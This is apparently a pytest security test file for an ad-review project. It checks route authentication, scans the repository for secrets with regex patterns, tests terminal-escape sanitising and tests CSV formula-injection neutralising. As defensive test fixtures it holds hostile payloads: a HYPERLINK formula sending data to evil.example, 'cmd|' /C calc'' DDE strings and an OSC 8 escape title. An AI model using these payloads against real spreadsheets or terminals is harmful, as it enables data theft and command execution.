"""Security as an attacker sees the product: every route of the review app behind login and roles, no secrets in the
repository, attacker-controlled text harmless in terminal output and in every CSV the product writes."""

from __future__ import annotations

import csv
import io
import re
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from rel_support import ADMIN, ANALYSTS, PROJECT_ROOT, Analyst, create_accounts, digest_warehouse, render_digest
from starlette.routing import Mount

from lurewatch.terminal import safe_text

# ---- the review app: authentication and authorisation on every route -------------------------------------------


def app_routes() -> list[tuple[str, str]]:
    """(method, path) of every route of the app, read from app.routes (through included routers)."""
    from fastapi.routing import APIRoute

    from review_app.app import create_app
    from review_app.settings import ReviewSettings

    app = create_app(ReviewSettings(db_path=Path("/nonexistent/lw.duckdb"), cookie_secure=False))
    try:
        from fastapi.routing import iter_route_contexts

        flat: Iterator[tuple[str, set[str], Any]] = (
            (str(c.path), set(c.methods or ()), c.original_route) for c in iter_route_contexts(app.routes)
        )
    except ImportError:  # FastAPI < 0.150 keeps app.routes flat
        flat = ((str(getattr(r, "path", "")), set(getattr(r, "methods", None) or ()), r) for r in app.routes)
    found: list[tuple[str, str]] = []
    for path, methods, route in flat:
        if isinstance(route, Mount):
            assert path == "/static", f"unexpected mount {path}: is it public on purpose?"
            continue
        assert isinstance(route, APIRoute), route
        found += [(method, path) for method in sorted(methods)]
    return found


def _concrete(path: str, ad_id: int) -> str:
    return path.replace("{ad_id}", str(ad_id)).replace("{fmt}", "json").replace("{username}", ANALYSTS[1][0])


def test_every_route_needs_a_session_and_admin_routes_need_an_admin(quick_warehouse: Path, copy_db: Any) -> None:
    """Enumerating app.routes: without a session (or with a forged, garbage or logged-out cookie) every route but
    /login redirects to the login form (GET) or is refused (401); an analyst gets 403 on every /admin route and on
    the referral export (contacts in clear); an admin gets the user list. A route added later is covered
    automatically."""
    from review_app.server import ThreadedServer
    from review_app.settings import ReviewSettings

    db = copy_db(quick_warehouse)
    create_accounts(db, ANALYSTS[:2])
    settings = ReviewSettings(db_path=db, cookie_secure=False, password_time_cost=1, password_memory_kib=8192,
                              password_parallelism=1)
    routes = app_routes()
    assert {p for _, p in routes} >= {"/", "/login", "/ads/{ad_id}", "/ads/{ad_id}/decision", "/admin/users",
                                      "/ads/{ad_id}/referral.{fmt}"}
    with ThreadedServer(settings) as server:
        logged_out = Analyst(server.url)
        assert logged_out.login(*ANALYSTS[0]).status_code == 303
        stale_cookie = dict(logged_out.http.cookies)
        assert logged_out.http.post("/logout", data={"csrf_token": logged_out.csrf}).status_code == 303
        strangers = [("none", {}), ("garbage", {"lw_session": "x" * 43}), ("logged-out", stale_cookie),
                     ("oversized", {"lw_session": "y" * 5000})]
        for name, cookies in strangers:
            for method, path in routes:
                if path == "/login":
                    continue
                response = Analyst(server.url).http.request(
                    method, _concrete(path, 1), cookies=cookies, data={"csrf_token": "x", "label": "lure"}
                )
                expected = 303 if method in ("GET", "HEAD") else 401
                assert response.status_code == expected, (name, method, path, response.status_code)
                assert "ad-text" not in response.text and "Turva" not in response.text
        analyst = Analyst(server.url)
        assert analyst.login(*ANALYSTS[1]).status_code == 303
        for method, path in routes:
            if path.startswith("/admin") or "/referral." in path:  # the referral export carries contacts in clear
                response = analyst.http.request(method, _concrete(path, 1), data={"csrf_token": analyst.csrf,
                                                                                  "reason": "a long enough reason"})
                assert response.status_code == 403, (method, path)
        admin = Analyst(server.url)
        assert admin.login(*ADMIN).status_code == 303
        assert admin.http.get("/admin/users").status_code == 200
    from warehouse import session

    with session(db) as con:
        assert con.execute("SELECT count(*) FROM labels WHERE source = 'analyst'").fetchall() == [(0,)]


# ---- secrets ----------------------------------------------------------------------------------------------------

SECRET_PATTERNS: dict[str, re.Pattern[str]] = {
    "private key": re.compile(r"-----BEGIN (?:RSA |EC |DSA |OPENSSH |ENCRYPTED |PGP )?PRIVATE KEY( BLOCK)?-----"),
    "AWS access key": re.compile(r"\b(?:AKIA|ASIA)[0-9A-Z]{16}\b"),
    "GitHub token": re.compile(r"\b(?:ghp|gho|ghu|ghs|ghr)_[A-Za-z0-9]{36}\b|\bgithub_pat_[A-Za-z0-9_]{60,}"),
    "Slack token": re.compile(r"\bxox[abprs]-[A-Za-z0-9-]{10,}"),
    "Google API key": re.compile(r"\bAIza[0-9A-Za-z_\-]{35}\b"),
    "Stripe key": re.compile(r"\b[sr]k_live_[0-9a-zA-Z]{20,}"),
    "PyPI token": re.compile(r"\bpypi-AgEIcHlwaS5vcmc[A-Za-z0-9_-]{50,}"),
    "JWT": re.compile(r"\beyJ[A-Za-z0-9_-]{10,}\.eyJ[A-Za-z0-9_-]{10,}\.[A-Za-z0-9_-]{10,}"),
    "URL with credentials": re.compile(r"\b[a-z][a-z0-9+.-]*://[^\s/:@'\"]+:[^\s/@'\"]{3,}@[^\s'\"]+", re.I),
    "argon2 hash": re.compile(r"\$argon2id?\$v=\d+\$m=\d+,t=\d+,p=\d+\$[A-Za-z0-9+/]{16,}\$[A-Za-z0-9+/]{20,}"),
}
# Assignments of literal secrets outside tests (tests use throw-away passwords on purpose).
ASSIGNED_SECRET = re.compile(
    r"""(?i)\b(?:password|passwd|secret|api_key|apikey|token|pseudonym_key)\w*\s*[:=]\s*["'][^"'\s{}$<]{8,}["']"""
)
SECRET_FILES = re.compile(r"(^|/)(\.env(\..*)?|id_rsa|id_ed25519|.*\.pem|.*\.key|.*\.p12|.*\.pfx|\.netrc|\.pypirc|"
                          r"credentials(\.json)?|.*\.review-auth\.sqlite3|.*\.duckdb)$")


def repository_files() -> list[str]:
    """Tracked files and untracked ones that are not ignored (what the next commit could contain)."""
    out = subprocess.run(
        ["git", "ls-files", "--cached", "--others", "--exclude-standard", "-z"], cwd=PROJECT_ROOT,
        capture_output=True, check=True,
    ).stdout.decode("utf-8", "surrogateescape")
    return sorted({name for name in out.split("\0") if name})


def scan_for_secrets(name: str, text: str) -> list[str]:
    found = [f"{name}: {label}" for label, pattern in SECRET_PATTERNS.items() if pattern.search(text)]
    if not name.startswith(("tests/", "docs/")) and not name.endswith(".md"):
        found += [f"{name}: assigned secret {m.group(0)[:60]!r}" for m in ASSIGNED_SECRET.finditer(text)]
    return found


def test_no_secrets_in_the_repository() -> None:
    """No private keys, cloud/API tokens, credentials in URLs, password hashes, key or database files, and no
    literal password/token/key assignment outside tests; the scanner itself is checked on planted secrets."""
    files = repository_files()
    assert len(files) > 100
    problems = [f"{name}: secret-looking file" for name in files if SECRET_FILES.search(name)]
    for name in files:
        path = PROJECT_ROOT / name
        if not path.is_file() or path.stat().st_size > 5_000_000:
            continue
        text = path.read_bytes().decode("utf-8", "replace")
        problems += scan_for_secrets(name, text)
    assert problems == []
    # planted secrets, built from parts so that this file does not hold them
    planted = "-----BEGIN OPENSSH " + "PRIVATE KEY-----\nAKIA" + "ABCDEFGHIJKLMNOP\nhttps://bob:" + "hunter22@db.x/\n"
    assert len(scan_for_secrets("lurewatch/x.py", planted + 'API_KEY = "s3cr3t-value"')) == 4


# ---- attacker-controlled text in the terminal ---------------------------------------------------------------------

TERMINAL_UNSAFE = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200e\u200f]")


@given(st.text(st.characters(exclude_categories=("Cs",)), max_size=300), st.none() | st.integers(2, 100))
def test_safe_text_never_lets_escape_or_bidi_sequences_through(text: str, limit: int | None) -> None:
    shown = safe_text(text, limit)
    assert not TERMINAL_UNSAFE.search(shown) and "\n" not in shown
    if limit is not None:
        assert len(shown) <= limit


HOSTILE_TITLE = "Work \x1b]8;;https://evil.example\x07CLICK\x1b]8;;\x07 \x1b[2J\x9b31m abroad \u202egnp.exe\u202c"


def test_lurewatch_top_prints_hostile_ads_inertly(flow_warehouse: Path, copy_db: Any) -> None:
    """An ad whose title, URL and evidence carry terminal escapes (OSC 8 hyperlink, clear screen, 8-bit CSI, bidi
    override), ranked first: `lurewatch top` prints it with none of those sequences."""
    from typer.testing import CliRunner

    from lurewatch.cli import app
    from warehouse import session

    db = copy_db(flow_warehouse)
    with session(db) as con:
        ad_id = con.execute("SELECT s.ad_id FROM scores s JOIN models m ON m.version = s.model_version "
                            "WHERE m.status = 'champion' ORDER BY s.score DESC LIMIT 1").fetchall()[0][0]
        con.execute("UPDATE ads SET title = ?, url = ? WHERE ad_id = ?",
                    [HOSTILE_TITLE, "https://x.example/\x1b[2J\u202e/ad", ad_id]).fetchall()
    result = CliRunner().invoke(app, ["top", "--limit", "3", "--db", str(db)])
    assert result.exit_code == 0, result.output
    assert "CLICK" in result.output and "abroad" in result.output
    assert not TERMINAL_UNSAFE.search(result.output.replace("\n", " "))


# ---- CSV formula injection in every CSV writer ---------------------------------------------------------------------

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  # OWASP CSV injection
NUMBER = re.compile(r"^[+-]?\d+(?:[.,]\d+)?$")
PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A1,"Open")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
AUDITED_CSV_WRITERS = {
    "review_app/export.py", "digest/render.py", "pipeline/csv_scoring.py", "pipeline/label_export.py",
}


def dangerous_cells(data: str) -> list[str]:
    """Cells a spreadsheet would evaluate: starting with = + - @ TAB CR, unless they are plain numbers."""
    rows = list(csv.reader(io.StringIO(data.lstrip("\ufeff"))))
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_START) and not NUMBER.match(cell)]


def test_every_csv_writer_in_the_code_base_is_audited_here() -> None:
    """A new csv.writer/DictWriter outside tests must be added to the formula-injection tests below."""
    writers = set()
    for name in repository_files():
        if name.endswith(".py") and not name.startswith(("tests/", "bench/")):
            text = (PROJECT_ROOT / name).read_text(encoding="utf-8", errors="replace")
            if re.search(r"\bcsv\.(?:writer|DictWriter)\(", text):
                writers.add(name)
    assert writers == AUDITED_CSV_WRITERS


@given(st.lists(st.one_of(st.sampled_from(PAYLOADS), st.text(max_size=40)), min_size=1, max_size=12))
def test_case_export_csv_neutralises_every_cell(values: list[str]) -> None:
    """review_app.export.to_csv over a case whose every field is attacker text."""
    from review_app.export import to_csv

    case: dict[str, Any] = {
        "case": {"exported_by": values[0]},
        "ad": {f"f{i}": v for i, v in enumerate(values)},
        "evidence": [{"text": v, "pattern": v} for v in values],
        "score_reasons": [],
        "contacts": [{"value": v, "raw": v} for v in values],
        "linked_ads": [{"title": v, "linked_by": [v]} for v in values],
        "decisions": [{"note": v} for v in values],
    }
    assert dangerous_cells(to_csv(case)) == []


def test_digest_csv_neutralises_attacker_text(tmp_path: Path) -> None:
    """The digest's CSV tables hold values from crawled ads (the country column is the site's own ``country``
    field): a formula there runs in the NGO's spreadsheet. Fix (digest/render.py, ``render_csv``): pass every header
    and cell through a neutraliser like ``review_app.export.neutralise`` (quote-prefix cells starting with
    = + - @ TAB CR)."""
    files = render_digest(digest_warehouse(tmp_path / "wh" / "lw.duckdb", PAYLOADS[0]))
    csvs = {name: text for name, text in files.items() if name.endswith(".csv")}
    assert csvs
    assert {name: dangerous_cells(text) for name, text in csvs.items() if dangerous_cells(text)} == {}


def test_scored_csv_neutralises_attacker_text(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """`lurewatch score --input ads.csv --output scored.csv` writes the input's (attacker-written) ad texts back for a
    spreadsheet. Fix (pipeline/score.py, ``score_csv``): neutralise every written cell except the numeric score."""
    import numpy as np

    from features import FeatureExtractor
    from pipeline import score

    class Constant:  # a stand-in model: this test is about the CSV, not the scores
        version = "stand-in"

        def predict(self, texts: Any, vectors: Any) -> Any:
            return np.full(len(texts), 0.5)

    monkeypatch.setattr(score, "predict", lambda model, texts, vectors: model.predict(texts, vectors), raising=False)
    source, target = tmp_path / "ads.csv", tmp_path / "scored.csv"
    with source.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["text", "source"])
        writer.writerows([[payload, payload] for payload in PAYLOADS])
    assert score.score_csv(Constant(), FeatureExtractor(), source, target) == len(PAYLOADS)  # type: ignore[arg-type]
    assert dangerous_cells(target.read_text(encoding="utf-8")) == []


@given(st.lists(st.one_of(st.sampled_from(PAYLOADS), st.text(max_size=40)), min_size=1, max_size=12))
def test_label_export_csv_neutralises_every_cell(values: list[str]) -> None:
    """pipeline.label_export.write_export (`lurewatch labels export OUT.csv`) over rows whose every field is
    attacker text (ad texts, notes)."""
    import tempfile

    from pipeline.label_export import EXPORT_COLUMNS, write_export

    rows = [{column: value for column in EXPORT_COLUMNS} for value in values]
    with tempfile.TemporaryDirectory() as folder:
        target = Path(folder) / "labels.csv"
        write_export(target, rows, "csv")
        assert dangerous_cells(target.read_text(encoding="utf-8")) == []
